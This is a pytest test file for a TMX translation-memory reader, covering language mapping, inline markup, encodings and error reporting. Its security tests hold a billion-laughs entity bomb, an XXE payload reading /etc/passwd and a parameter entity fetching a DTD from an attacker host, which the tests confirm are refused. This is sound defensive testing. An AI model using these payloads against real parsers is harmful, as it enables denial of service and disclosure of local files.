"""TmxReader: reader contract, language mapping, inline markup, and refusal of unsafe or malformed TMX."""

from __future__ import annotations

import pytest

from aligner.ingest import InputError
from aligner.ingest.tmx import TmxReader, parse_tmx
from aligner.model import Layout
from tests.ingest.contract import ReaderContract, unit_texts

TMX = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd">
<tmx version="1.4">
  <header creationtool="memoQ" creationtoolversion="9" segtype="sentence" o-tmf="memoQ" adminlang="en-US"
          srclang="en-US" datatype="plaintext">
    <prop type="x-aligner-signature">seg:rules.v1|v:0.1.0</prop>
  </header>
  <body>
    <tu tuid="1"><prop type="x-status">accepted</prop>
      <tuv xml:lang="en-US"><seg>The minister arrived.</seg></tuv>
      <tuv xml:lang="ar-SA"><seg>وصل الوزير.</seg></tuv></tu>
    <tu tuid="2">
      <tuv xml:lang="AR-sa"><seg>قال <bpt i="1">&lt;b&gt;</bpt>لا<ept i="1">&lt;/b&gt;</ept> للخطة.</seg></tuv>
      <tuv xml:lang="EN-us"><seg>He said <hi type="b">no</hi> to the plan<ph>&lt;br/&gt;</ph>.</seg></tuv></tu>
    <tu tuid="3"><tuv lang="en"><seg>Line one
line two</seg></tuv><tuv xml:lang="ar"><seg>سطر</seg></tuv></tu>
    <tu tuid="4"><tuv xml:lang="en"><seg>Only English.</seg></tuv></tu>
  </body>
</tmx>
"""


class TestTmxReaderContract(ReaderContract):
    reader_cls = TmxReader
    sample = TMX.encode("utf-8")
    sample_name = "memory.tmx"
    layout = Layout.PARALLEL
    origin_required = False


def read(data: bytes | str, name: str = "memory.tmx", **kw: str):
    raw = data.encode("utf-8") if isinstance(data, str) else data
    return TmxReader(**kw).read(raw, name)


def test_units_and_languages() -> None:
    bitext = read(TMX)
    src, tgt = unit_texts(bitext)
    assert src == ["The minister arrived.", "He said no to the plan.", "Line one\nline two", "Only English."]
    assert tgt == ["وصل الوزير.", "قال لا للخطة.", "سطر", ""]
    assert (bitext.src.lang, bitext.tgt.lang) == ("en", "ar")
    assert bitext.src.meta["signature"] == "seg:rules.v1|v:0.1.0"
    assert bitext.src.meta["unit_ids"] == ("1", "2", "3", "4")
    assert bitext.src.meta["unit_props"][0] == {"x-status": "accepted"}
    assert all(u.role == "line" for u in bitext.src.units)


def test_other_pair_by_declared_source() -> None:
    data = TMX.replace("ar-SA", "fr-FR").replace("AR-sa", "fr").replace('"ar"', '"fr"')
    bitext = read(data)
    assert (bitext.src.lang, bitext.tgt.lang) == ("en", "fr")


def test_three_languages_without_the_pair_is_an_error() -> None:
    data = TMX.replace("ar-SA", "fr-FR").replace("AR-sa", "de").replace('"ar"', '"es"')
    with pytest.raises(InputError, match=r"memory\.tmx: cannot tell source from target"):
        read(data)


def test_reversed_pair_reads_english_as_source() -> None:
    bitext = read(TMX.replace('srclang="en-US"', 'srclang="ar-SA"'))
    assert unit_texts(bitext)[0][0] == "The minister arrived."


def test_utf16_with_bom() -> None:
    data = TMX.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert unit_texts(read(data)) == unit_texts(read(TMX))


def test_windows_1256_declared_and_used() -> None:
    data = TMX.replace('encoding="UTF-8"', 'encoding="windows-1256"').encode("cp1256")
    assert unit_texts(read(data)) == unit_texts(read(TMX))


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tmx [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<tmx version="1.4"><header srclang="en"/><body><tu><tuv xml:lang="en"><seg>&lol2;</seg></tuv></tu></body></tmx>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header srclang="en"/><body><tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv></tu></body></tmx>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<tmx version="1.4"><header srclang="en"/><body/></tmx>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY], ids=["billion-laughs", "xxe", "param"])
def test_entity_declarations_refused(data: str) -> None:
    with pytest.raises(InputError, match=r"^evil\.tmx:\d+: refused: the DOCTYPE declares entities"):
        read(data, "evil.tmx")


@pytest.mark.parametrize(
    ("data", "pattern"),
    [
        ('<?xml version="1.0"?>\n<tmx version="1.4">\n<header/>\n<body>\n<tu>\n</body></tmx>', r"^bad\.tmx:6: "),
        ('<?xml version="1.0"?>\n<tmx><body><tu><tuv xml:lang="en"><seg>a & b</seg>', r"^bad\.tmx:2: malformed"),
        ("<tmx><body>&undefined;</body></tmx>", r"^bad\.tmx:1: malformed"),
        ("<html><body/></html>", r"^bad\.tmx:1: not TMX: root element is <html>"),
        ('<tmx version="1.4"><header/></tmx>', r"^bad\.tmx:1: not TMX: no <body>"),
        ("<tmx><body><tu><tuv><seg>x</seg></tuv></tu></body></tmx>", r"^bad\.tmx:1: <tuv> without xml:lang"),
        ("just some text", r"^bad\.tmx:1: malformed XML"),
    ],
    ids=["unclosed-tag", "bare-ampersand", "undefined-entity", "not-tmx", "no-body", "no-lang", "not-xml"],
)
def test_malformed(data: str, pattern: str) -> None:
    with pytest.raises(InputError, match=pattern) as info:
        read(data, "bad.tmx")
    assert "\n" not in str(info.value)


@pytest.mark.parametrize(
    ("data", "pattern"),
    [
        ('<?xml version="1.0" encoding="UTF-8"?>\n<tmx>سلام</tmx>'.encode("cp1256"), r"^bad\.tmx:2: malformed"),
        (b'<?xml version="1.0" encoding="x-klingon"?>\n<tmx/>', r"^bad\.tmx:1: .*(encoding|klingon)"),
        (b'<?xml version="1.0" encoding="UTF-16"?>\n<tmx/>', r"^bad\.tmx:\d+: "),
    ],
    ids=["utf8-declared-cp1256-bytes", "unknown-encoding", "utf16-declared-utf8-bytes"],
)
def test_wrong_encoding_declared(data: bytes, pattern: str) -> None:
    with pytest.raises(InputError, match=pattern):
        read(data, "bad.tmx")


def test_plain_doctype_is_accepted_and_not_loaded() -> None:
    data = TMX.replace('"tmx14.dtd"', '"http://attacker.invalid/tmx14.dtd"')
    assert len(read(data).src.units) == 4


def test_parse_tmx_header() -> None:
    tmx = parse_tmx(TMX.encode(), "m.tmx")
    assert tmx.header["creationtool"] == "memoQ" and tmx.props["x-aligner-signature"].startswith("seg:")
    assert tmx.units[1].texts["AR-sa"] == "قال لا للخطة."
